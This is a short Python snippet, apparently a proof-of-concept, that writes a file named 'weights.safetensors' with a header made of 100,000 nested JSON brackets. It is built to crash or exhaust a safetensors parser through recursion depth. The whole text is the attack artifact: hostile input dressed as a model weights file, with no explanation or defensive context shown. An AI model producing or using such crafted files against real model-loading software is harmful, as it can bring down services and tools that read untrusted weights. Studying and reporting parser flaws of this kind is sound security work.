header = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
with open("weights.safetensors", "wb") as file:
    file.write(len(header).to_bytes(8, "little") + header)
